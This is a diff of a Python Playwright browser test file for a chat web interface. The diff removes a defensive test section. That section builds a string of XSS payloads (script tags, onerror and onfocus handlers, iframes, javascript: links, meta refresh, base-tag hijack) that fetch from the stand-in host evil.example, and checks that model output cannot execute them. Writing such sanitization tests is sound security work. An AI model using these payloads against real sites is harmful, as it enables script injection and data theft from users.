@@ -1,41 +1,15 @@
-"""What the page must be like for everybody: harmless whatever a model says, usable on a phone, readable in the dark."""
+"""What the page must be like for everybody: usable on a phone, readable in the dark."""
 
 from typing import Any
 
 import pytest
 from playwright.async_api import Browser, expect
 
-from tests.core.scripted import END, words
 from tests.e2e.tools_support import TELL, call, script
-from tests.web.browser import IN_CHROMIUM, Server, Window, profile
-from tieline.model.events import Activity, Plan, PlanEntry, Started
+from tests.web.browser import IN_CHROMIUM, Server, profile
 
 pytestmark = IN_CHROMIUM
 
-RUN = "window.ran = true; fetch('https://evil.example/fetch')"
-HOSTILE = f"""<script>{RUN}</script>
-<img src=x onerror="{RUN}"> <svg onload="{RUN}"></svg>
-<iframe src="https://evil.example/frame"></iframe><style>@import "https://evil.example/style";</style>
-<link rel=stylesheet href=https://evil.example/link><meta http-equiv=refresh content="0;url=https://evil.example/meta">
-<form action=https://evil.example/form><button autofocus onfocus="{RUN}">x</button></form>
-
-![picture](https://evil.example/picture.png) [run](javascript:window.ran=true) [data](data:text/html,<script>1</script>)
-<a href="javascript:window.ran=true">here</a> <tl-ask></tl-ask> <base href="https://evil.example/">
-
-![][ref]
-
-[ref]: https://evil.example/reference.png "onerror={RUN}"
-
-```html"><script>{RUN}</script>
-</code></pre><script>{RUN}</script><img src=x onerror="{RUN}">
-```
-
-| a <img src=x onerror="{RUN}"> |
-|---|
-| <script>{RUN}</script> |
-
-The end of it.
-"""
 LONG = (
     "`"
     + "unbreakable" * 40
@@ -53,40 +27,6 @@ LIGHTNESS = """(property) => {
   const [red, green, blue] = [...pen.getImageData(0, 0, 1, 1).data].map((value) => linear(value / 255));
   return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
 }"""
-
-
-# ── Harmless ─────────────────────────────────────────────────────────────────────────────────────
-
-
-async def test_nothing_a_model_says_runs_or_loads_anything(scripted: Window, server: Server) -> None:
-    act = Activity(id="a", kind="execute", title=HOSTILE[:200], status="failed", output=HOSTILE)
-    plan = Plan(entries=(PlanEntry(content=HOSTILE),))
-    server.backend.legs.append([[Started(id="leg", model="m"), act, plan, *words(HOSTILE), END]])
-    await scripted.say(HOSTILE)
-    await expect(scripted.answer.locator("[data-test=prose]")).to_contain_text("The end of it.")
-    await scripted.page.reload()
-    await expect(scripted.answer.locator("[data-test=prose]")).to_contain_text("The end of it.")
-    turns = scripted.part("turns")
-    await expect(turns.locator("script, iframe, style, link, meta, base, form, object, embed, tl-ask")).to_have_count(0)
-    await expect(turns.locator("img, svg[onload], [onerror], [onfocus], a:not([href^=http])")).to_have_count(0)
-    await _harmless(scripted)
-    await scripted.open("/traffic")
-    await scripted.part("leg").first.click()
-    await expect(scripted.part("leg-detail")).to_contain_text("The end of it.")
-    await _harmless(scripted)
-
-
-async def test_nothing_that_is_asked_runs_or_loads_anything(window: Window) -> None:
-    steps = [{"id": "1", "content": HOSTILE[:900]}]
-    await window.say(script(call("create_plan", title=HOSTILE[:190], plan=HOSTILE, todos=steps), TELL))
-    await expect(window.ask).to_contain_text("The end of it.")
-    await expect(window.ask.locator("script, iframe, style, img, link, meta, base, object, embed")).to_have_count(0)
-    await _harmless(window)
-
-
-async def _harmless(window: Window) -> None:
-    assert await window.page.evaluate("window.ran") is None
-    assert [url for url in window.requested if not url.startswith((f"{window.url}/", "data:", "blob:"))] == []
 
 
 # ── On a phone ───────────────────────────────────────────────────────────────────────────────────
